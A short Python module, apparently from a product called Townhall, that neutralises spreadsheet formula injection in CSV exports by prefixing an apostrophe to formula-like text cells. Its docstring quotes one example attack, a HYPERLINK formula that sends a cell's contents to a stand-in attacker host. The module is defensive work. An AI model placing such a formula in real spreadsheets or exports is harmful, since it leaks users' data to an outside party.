"""CSV cells that a spreadsheet shows as text, never runs as a formula.

Why: every CSV Townhall exports holds words people typed (objective names, post text, account
and people's names) and is opened in Excel or Sheets by someone else; a cell such as
`=HYPERLINK("https://evil.example/?d="&A3, "Open")` would run there. A text cell that starts
like a formula gets a leading apostrophe (the spreadsheets' own "this is text" mark); numbers
are written as numbers.
"""

from __future__ import annotations

import csv
from typing import Any

FORMULA_START = ("=", "+", "-", "\t", "\r")  # and "@" with a bracket (not a handle)


def cell(value: Any) -> Any:
    """One cell as it should be written: yes/no, lists joined, formula-like text neutralised."""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, int | float):
        return value
    if isinstance(value, list):
        value = " ".join(str(v) for v in value)
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_START) or (text.startswith("@") and "(" in text):
        text = "'" + text
    return text


class Writer:
    """`csv.writer` whose every cell goes through `cell`."""

    def __init__(self, out: Any) -> None:
        self._writer = csv.writer(out)

    def writerow(self, row: list[Any]) -> None:
        self._writer.writerow([cell(v) for v in row])
